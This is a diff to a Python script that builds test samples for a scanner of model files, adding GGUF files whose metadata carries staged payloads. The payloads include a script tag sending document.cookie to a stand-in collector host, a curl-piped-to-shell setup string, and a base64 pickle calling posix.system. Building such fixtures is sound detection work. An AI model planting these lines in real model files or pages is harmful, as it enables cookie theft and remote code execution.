@@ -3,7 +3,7 @@
 A data-only pickle (a plain dict, a state dict) whose values hold a second pickle, raw or behind
 encoding layers (base64, base85, hex, zlib/gzip/bz2/xz), is what a training script that does
 `pickle.loads(ckpt["extra"])` would run; loading the outer file runs nothing. Metadata strings
-(safetensors `__metadata__`, ONNX `metadata_props` and doc strings) are never executed by a
+(safetensors `__metadata__`, ONNX `metadata_props` and doc strings, GGUF string values) are never executed by a
 loader either, but carry shell commands, Python or script tags for other code or for a reader.
 Every payload is the harmless `echo quarantine-sample`; addresses are in 192.0.2.0/24 or under
 example.com. Only the standard library writes these files.
@@ -20,6 +20,7 @@ import lzma
 import struct
 import zlib
 
+import gen_llm
 import onnxpb as pb
 from onnxpb import graph, model, node, value_info
 
@@ -65,6 +66,56 @@ def onnx_with_metadata(metadata: list[tuple[str, str]], doc: str = "") -> bytes:
     g = graph("identity", [node("Identity", ["x"], ["y"], name="id")],
               inputs=[value_info("x", pb.FLOAT, [1, 4])], outputs=[value_info("y", pb.FLOAT, [1, 4])])
     return model(g, producer="pytorch", producer_version="2.1.0", doc=doc, metadata=metadata)
+
+
+def gguf_with_metadata(extra: list[tuple[str, str]], vocabulary: list[str] | None = None,
+                       merges: list[str] | None = None) -> bytes:
+    """A small llama GGUF (the LLM samples' writer) whose metadata also holds the string values
+    `extra`, and optionally a tokenizer vocabulary and merges as BPE writers store them."""
+    g = gen_llm
+    kvs = [g.kv(key, g.STR, text) for key, text in extra]
+    if vocabulary is not None:
+        kvs.append(g.kv("tokenizer.ggml.tokens", g.ARR, (g.STR, vocabulary)))
+        kvs.append(g.kv("tokenizer.ggml.token_type", g.ARR, (g.I32, [1] * len(vocabulary))))
+    if merges is not None:
+        kvs.append(g.kv("tokenizer.ggml.merges", g.ARR, (g.STR, merges)))
+    base = [k for k in g.model_kvs() if vocabulary is None or b"tokenizer.ggml.token" not in k[:40]]
+    return g.gguf(base + kvs, g.TENSORS)
+
+
+# Pieces of a byte-level BPE vocabulary trained on web text and code (GPT-2 / Llama 3 style: `Ġ`
+# is a space), in the order such vocabularies list them. Markup and code fragments are ordinary
+# tokens there; one a line, neighbours would read as code nobody wrote.
+CODE_VOCABULARY = [
+    "<s>", "</s>", "<unk>", "Ġthe", "Ġof", "<script", "<script>", "</script>", "Ġ<script", "script",
+    "Ġimport", "import", "Ġos", "os", ".system", "(", "Ġeval", "eval", "(", "'", "Ġexec", "exec",
+    "Ġsubprocess", "subprocess", ".run", "Ġrm", "Ġ-rf", "Ġ/", "Ġcurl", "Ġ|", "Ġsh", "sh", "Ġ-c", "Ġ'",
+    "javascript:", "Ġhref", "=", "Ġonerror", "onload", "=", "<img", "Ġsrc", "http", "://", "192",
+    ".168", "?", "id", "=", "from", "os", "Ġos", ".system", "(",
+]
+CODE_MERGES = ["Ġ t", "Ġ a", "h e", "<scr ipt", "<script >", "</ script", "Ġ <script", "im port", "Ġ os",
+               ".s ystem", "ev al", "ex ec", "Ġ rm", "Ġ -rf", "Ġ curl", "Ġ |", "Ġ sh", "Ġ -c", "on error",
+               "javascript :", "Ġ href", "<im g"]
+
+LICENCE = """MIT License
+
+Copyright (c) 2024 Example Org
+
+Permission is hereby granted, free of charge, to any person obtaining a copy of this software and
+associated documentation files (the "Software"), to deal in the Software without restriction,
+including without limitation the rights to use, copy, modify, merge, publish, distribute,
+sublicense, and/or sell copies of the Software, and to permit persons to whom the Software is
+furnished to do so, subject to the following conditions:
+
+The above copyright notice and this permission notice shall be included in all copies or
+substantial portions of the Software.
+
+THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR IMPLIED, INCLUDING BUT
+NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY, FITNESS FOR A PARTICULAR PURPOSE AND
+NONINFRINGEMENT. IN NO EVENT SHALL THE AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM,
+DAMAGES OR OTHER LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM, OUT
+OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE SOFTWARE.
+"""
 
 
 MODEL_CARD = """# tiny-bert-sentiment
@@ -240,6 +291,34 @@ def samples(register, gen) -> None:
     register("malicious/staged_onnx_doc_pickle.onnx", SUSPICIOUS, ("PKL012", "posix.system"),
              desc="ONNX model doc_string is the hex of a pickle calling posix.system",
              build=lambda: onnx_with_metadata([("author", "example")], doc=inner.hex()))
+
+    # --- GGUF string values (through the GGUF analyser's gguf_metadata origin) ---------------------
+    register("malicious/staged_gguf_meta_script.gguf", SUSPICIOUS, ("YAR:metadata_code.html_script", "<script"),
+             desc="GGUF whose general.description holds a <script> tag that a model page rendering it unescaped would run",
+             build=lambda: gguf_with_metadata([(
+                 "general.description",
+                 "A tiny chat model.<script>fetch('https://collector.example.com/x?c='+document.cookie)</script>")]))
+    register("malicious/staged_gguf_meta_shell.gguf", SUSPICIOUS, ("YAR:metadata_code.shell_command", "| sh"),
+             desc="GGUF whose general.source.url is followed by a setup string piping curl into a shell "
+                  "(`curl -fsSL http://192.0.2.10/install.sh | sh`)",
+             build=lambda: gguf_with_metadata([("general.source.url", "https://huggingface.co/example-org/tiny"),
+                                               ("general.setup", f"curl -fsSL http://{HOST}/install.sh | sh")]))
+    register("malicious/staged_gguf_meta_pickle.gguf", SUSPICIOUS, ("PKL012", "posix.system"),
+             desc="GGUF whose metadata string general.notes is base64 of a pickle calling posix.system "
+                  "(metadata `general.notes`@N → base64)",
+             build=lambda: gguf_with_metadata([("general.notes", b64)]))
+    register("benign/staged_gguf_model_card.gguf", CLEAN,
+             desc="GGUF metadata as converters fill it: licence name and full MIT text, source URLs, a long model "
+                  "card with code and shell examples, and a BPE vocabulary and merges holding markup and code "
+                  "fragments (<script, eval, import, os.system, rm -rf as tokens)",
+             build=lambda: gguf_with_metadata(
+                 [("general.license", "mit"), ("general.license.name", "MIT License"),
+                  ("general.license.link", "https://huggingface.co/example-org/tiny/blob/main/LICENSE"),
+                  ("general.license.text", LICENCE),
+                  ("general.source.url", "https://huggingface.co/example-org/tiny-bert-sentiment"),
+                  ("general.repo_url", "https://github.com/example-org/tiny"),
+                  ("general.description", MODEL_CARD)],
+                 vocabulary=CODE_VOCABULARY, merges=CODE_MERGES))
 
     register("benign/staged_meta_ordinary.safetensors", CLEAN,
              desc="safetensors __metadata__ as real writers fill it: format pt, framework names, licence, "
